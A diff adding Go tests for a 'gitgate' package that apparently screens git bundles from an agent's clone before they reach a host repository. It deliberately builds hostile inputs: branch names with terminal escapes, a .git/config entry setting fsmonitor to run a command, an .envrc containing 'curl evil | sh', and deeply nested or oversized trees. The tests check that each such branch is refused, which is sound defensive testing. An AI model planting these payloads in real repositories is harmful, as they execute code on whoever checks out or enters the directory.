@@ -1,0 +1,326 @@
+package gitgate
+
+import (
+	"bytes"
+	"crypto/sha1"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+)
+
+// rewriteHeads returns a copy of bundle whose header also lists each of
+// names as a branch at commit: a hostile bundle may name anything.
+func rewriteHeads(t *testing.T, bundle, commit string, names ...string) string {
+	t.Helper()
+	data, err := os.ReadFile(bundle)
+	if err != nil {
+		t.Fatal(err)
+	}
+	header, pack, ok := bytes.Cut(data, []byte("\n\n"))
+	if !ok {
+		t.Fatal("bundle without a header")
+	}
+	var b bytes.Buffer
+	b.Write(header)
+	for _, n := range names {
+		fmt.Fprintf(&b, "\n%s refs/heads/%s", commit, n)
+	}
+	b.WriteString("\n\n")
+	b.Write(pack)
+	f := filepath.Join(t.TempDir(), "hostile.bundle")
+	if err := os.WriteFile(f, b.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
+// TestBadNamesRefusedPerBranch: a branch whose name git cannot store, or
+// that holds a terminal control, is refused on its own; the other branches
+// are written, and no reason carries the raw name.
+func TestBadNamesRefusedPerBranch(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	agent := newAgent(t, host)
+	branch(t, agent, "ok")
+	c := commitFiles(t, agent, map[string]string{"a.txt": "a\n"}, "a")
+	bad := map[string]string{
+		strings.Repeat("x", 300):              "longer than",
+		strings.Repeat("y/", 200) + "z":       "longer than",
+		"red\x1b[31m":                         "not printable",
+		"a..b":                                "not a valid branch name",
+		"c1\u009b31m":                         "not printable",
+		"bidi\u202eevil":                      "not printable",
+		"bad-utf8-\xff":                       "not printable",
+		"HEAD.lock":                           "not a valid branch name",
+		"with space":                          "not a valid branch name",
+		"dup":                                 "listed more than once",
+		strings.Repeat("w", 40) + "/\x07bell": "not printable",
+	}
+	var names []string
+	for n := range bad {
+		names = append(names, n)
+	}
+	names = append(names, "dup") // listed twice
+	f := rewriteHeads(t, bundleOf(t, agent), c, names...)
+	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: f})
+	if err != nil {
+		t.Fatalf("Fetch: %v", err)
+	}
+	checkNoIncoming(t, host)
+	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
+	for n, why := range bad {
+		found := 0
+		for _, b := range res.Branches {
+			if b.Name != n {
+				continue
+			}
+			found++
+			if b.Status != StatusRefused || len(b.Reasons) == 0 || !strings.Contains(b.Reasons[0].Why, why) {
+				t.Errorf("branch %q: %s %+v, want refused: %s", n, b.Status, b.Reasons, why)
+				continue
+			}
+			w := b.Reasons[0].Why
+			if !strings.Contains(w, "branch #") || !strings.Contains(w, "agent's clone") {
+				t.Errorf("branch %q: reason %q does not say which branch of the agent's clone", n, w)
+			}
+			if len(w) > 400 || strings.ContainsFunc(w, func(r rune) bool { return r < 0x20 || r >= 0x7f }) {
+				t.Errorf("branch %q: reason %q carries the raw name", n, w)
+			}
+		}
+		if found == 0 {
+			t.Errorf("no branch %q in the result", n)
+		}
+	}
+	if refs := gitT(t, host, "for-each-ref", "--format=%(refname)", "refs/heads/agentbox/"); refs != "refs/heads/agentbox/main\nrefs/heads/agentbox/ok" {
+		t.Errorf("written refs:\n%s", refs)
+	}
+}
+
+// TestTreeWithDotGitRefusedPerBranch: a tree with a .git entry, which git's
+// fsck refuses, refuses its own branch only, and none of its objects enters
+// the host's repository.
+func TestTreeWithDotGitRefusedPerBranch(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	agent := newAgent(t, host)
+	branch(t, agent, "ok")
+	commitFiles(t, agent, map[string]string{"ok.txt": "fine\n"}, "ok")
+	blob := gitT(t, agent, "hash-object", "-w", "--stdin", "--path", "x") // the empty blob
+	evil := hashObject(t, agent, "blob", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
+	sub := mktree(t, agent, "100644 blob "+evil+"\tconfig\n")
+	top := mktree(t, agent, "040000 tree "+sub+"\t.git\n100644 blob "+blob+"\tREADME.md\n")
+	c := gitT(t, agent, "commit-tree", "-p", "main", "-m", "dotgit", top)
+	gitT(t, agent, "update-ref", "refs/heads/dotgit", c)
+	res := fetchT(t, host, agent, Policy{})
+	wantRefused(t, host, byName(t, res, "dotgit"), "", "hasDotgit")
+	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
+	for _, id := range []string{c, top, sub, evil} {
+		if _, err := gitE(host, "cat-file", "-e", id); err == nil {
+			t.Errorf("object %s of the refused branch is in the host's repository", id)
+		}
+	}
+}
+
+func hashObject(t *testing.T, repo, typ, content string) string {
+	t.Helper()
+	cmd := gitCmd(repo, "hash-object", "-w", "-t", typ, "--stdin")
+	cmd.Stdin = strings.NewReader(content)
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// objectCount is the host's count of loose and packed objects.
+func objectCount(t *testing.T, repo string) string {
+	t.Helper()
+	var n []string
+	for _, l := range strings.Split(gitT(t, repo, "count-objects", "-v"), "\n") {
+		if strings.HasPrefix(l, "count:") || strings.HasPrefix(l, "in-pack:") || strings.HasPrefix(l, "packs:") {
+			n = append(n, l)
+		}
+	}
+	return strings.Join(n, " ")
+}
+
+// TestRefusedObjectsStayOut: a branch refused by the rules leaves nothing
+// in the host's object store.
+func TestRefusedObjectsStayOut(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	agent := newAgent(t, host)
+	branch(t, agent, "evil")
+	commitFiles(t, agent, map[string]string{".envrc": "curl evil | sh # unique 8c1f\n"}, "envrc")
+	blob := gitT(t, agent, "rev-parse", "HEAD:.envrc")
+	before := objectCount(t, host)
+	res := fetchT(t, host, agent, Policy{})
+	wantRefused(t, host, byName(t, res, "evil"), ".envrc", "direnv")
+	if _, err := gitE(host, "cat-file", "-e", blob); err == nil {
+		t.Errorf("the refused blob %s is in the host's repository", blob)
+	}
+	if after := objectCount(t, host); after != before {
+		t.Errorf("the host's objects grew: %s -> %s", before, after)
+	}
+}
+
+// treeBuilder computes tree objects in Go (a chain of 4,000 trees through
+// git mktree would take 4,000 processes) and writes them with one git
+// hash-object.
+type treeBuilder struct {
+	t     *testing.T
+	dir   string
+	files []string
+}
+
+func newTreeBuilder(t *testing.T) *treeBuilder {
+	return &treeBuilder{t: t, dir: t.TempDir()}
+}
+
+// tree returns the id of a tree of entries (already in git's order).
+func (b *treeBuilder) tree(entries ...treeEntry) string {
+	var buf bytes.Buffer
+	for _, e := range entries {
+		raw, err := hex.DecodeString(e.id)
+		if err != nil {
+			b.t.Fatal(err)
+		}
+		fmt.Fprintf(&buf, "%s %s\x00", e.mode, e.name)
+		buf.Write(raw)
+	}
+	h := sha1.New()
+	fmt.Fprintf(h, "tree %d\x00", buf.Len())
+	h.Write(buf.Bytes())
+	f := filepath.Join(b.dir, strconv.Itoa(len(b.files)))
+	if err := os.WriteFile(f, buf.Bytes(), 0o644); err != nil {
+		b.t.Fatal(err)
+	}
+	b.files = append(b.files, f)
+	return hex.EncodeToString(h.Sum(nil))
+}
+
+// write stores every tree built in repo.
+func (b *treeBuilder) write(repo string) {
+	b.t.Helper()
+	cmd := gitCmd(repo, "hash-object", "-w", "-t", "tree", "--stdin-paths")
+	cmd.Stdin = strings.NewReader(strings.Join(b.files, "\n") + "\n")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		b.t.Fatalf("hash-object: %v\n%s", err, out)
+	}
+}
+
+// commitTree commits tree on main in repo as branch name.
+func commitTree(t *testing.T, repo, name, tree string) string {
+	t.Helper()
+	c := gitT(t, repo, "commit-tree", "-p", "main", "-m", name, tree)
+	gitT(t, repo, "update-ref", "refs/heads/"+name, c)
+	return c
+}
+
+// chain builds n directories named d, each in the one above, with a file at
+// the bottom, and returns the trees from the bottom up.
+func chain(b *treeBuilder, n int, blob string) []string {
+	trees := []string{b.tree(treeEntry{"100644", "f", blob})}
+	for len(trees) < n {
+		trees = append(trees, b.tree(treeEntry{"40000", "d", trees[len(trees)-1]}))
+	}
+	return trees
+}
+
+// TestLimits: a branch over one of the limits is refused with a reason that
+// names it; the others are written.
+func TestLimits(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	agent := newAgent(t, host)
+	blob := hashObject(t, agent, "blob", "x\n")
+	b := newTreeBuilder(t)
+
+	// 4,000 directories deep: git 2.39's checkout crashes on it.
+	deep := chain(b, 4000, blob)
+	// The same chain with every one of its trees also at the top: no
+	// object is first met deeper than two directories.
+	var all []treeEntry
+	for i, id := range deep {
+		all = append(all, treeEntry{"40000", fmt.Sprintf("t%05d", i), id})
+	}
+	shortcut := b.tree(all...)
+	// 40 directories of 120 bytes: 4,841 bytes, within the depth.
+	long := b.tree(treeEntry{"100644", "f", blob})
+	for range 40 {
+		long = b.tree(treeEntry{"40000", strings.Repeat("n", 120), long})
+	}
+	// Within the limits: 100 deep.
+	fine := chain(b, 100, blob)[99]
+	b.write(agent)
+	commitTree(t, agent, "deep", deep[len(deep)-1])
+	commitTree(t, agent, "deep-shortcut", shortcut)
+	commitTree(t, agent, "long-path", long)
+	commitTree(t, agent, "fine-depth", fine)
+
+	branch(t, agent, "big-blob")
+	commitFiles(t, agent, map[string]string{"big.bin": strings.Repeat("\x00", 3<<20)}, "3 MiB")
+	branch(t, agent, "total")
+	commitFiles(t, agent, map[string]string{"a.bin": strings.Repeat("a", 1<<20), "b.bin": strings.Repeat("b", 1<<20),
+		"c.bin": strings.Repeat("c", 1<<20)}, "3 x 1 MiB")
+	branch(t, agent, "wide")
+	files := map[string]string{}
+	for i := range 250 {
+		files[fmt.Sprintf("w%03d", i)] = "same\n"
+	}
+	commitFiles(t, agent, files, "250 entries in one tree")
+	branch(t, agent, "ok")
+	commitFiles(t, agent, map[string]string{"ok.txt": strings.Repeat("o", 1<<20)}, "1 MiB")
+
+	limits := Limits{ObjectSize: 2 << 20, TotalSize: 5 << 20 / 2, TreeEntries: 200}
+	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: limits})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct{ branch, path, why string }{
+		{"deep", "d/d/d/d", "4000 components (limit 128)"},
+		{"deep-shortcut", "t03999/d/d/d", "4001 components (limit 128)"},
+		{"long-path", "nnnn", "4841 bytes (limit 4096)"},
+		{"big-blob", "big.bin", "3.0 MiB once inflated (limit 2.0 MiB)"},
+		{"total", "", "3.0 MiB once inflated (limit 2.5 MiB)"},
+		{"deep-shortcut", "", "4000 entries (limit 200)"},
+		{"wide", "", "252 entries (limit 200)"},
+	} {
+		t.Run(c.branch, func(t *testing.T) { wantRefused(t, host, byName(t, res, c.branch), c.path, c.why) })
+	}
+	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
+	wantWritten(t, host, byName(t, res, "fine-depth"), StatusNew)
+	if res.Refused() != 6 {
+		t.Errorf("%d refused, want 6", res.Refused())
+	}
+}
+
+// TestObjectLimit: a branch of more new objects than the limit is refused;
+// objects the host's own refs reach do not count.
+func TestObjectLimit(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	files := map[string]string{}
+	for i := range 300 {
+		files[fmt.Sprintf("many/%02d/%03d.txt", i/30, i)] = strconv.Itoa(i)
+	}
+	commitFiles(t, host, files, "300 files of the host's own")
+	agent := newAgent(t, host)
+	branch(t, agent, "small")
+	commitFiles(t, agent, map[string]string{"many/00/000.txt": "changed\n"}, "one change")
+	branch(t, agent, "objects")
+	for i := range 300 {
+		files[fmt.Sprintf("many/%02d/%03d.txt", i/30, i)] = "new " + strconv.Itoa(i)
+	}
+	commitFiles(t, agent, files, "300 new files")
+	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: Limits{Objects: 250}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantRefused(t, host, byName(t, res, "objects"), "", "the branch brings 313 new objects (limit 250)")
+	wantWritten(t, host, byName(t, res, "small"), StatusNew)
+}
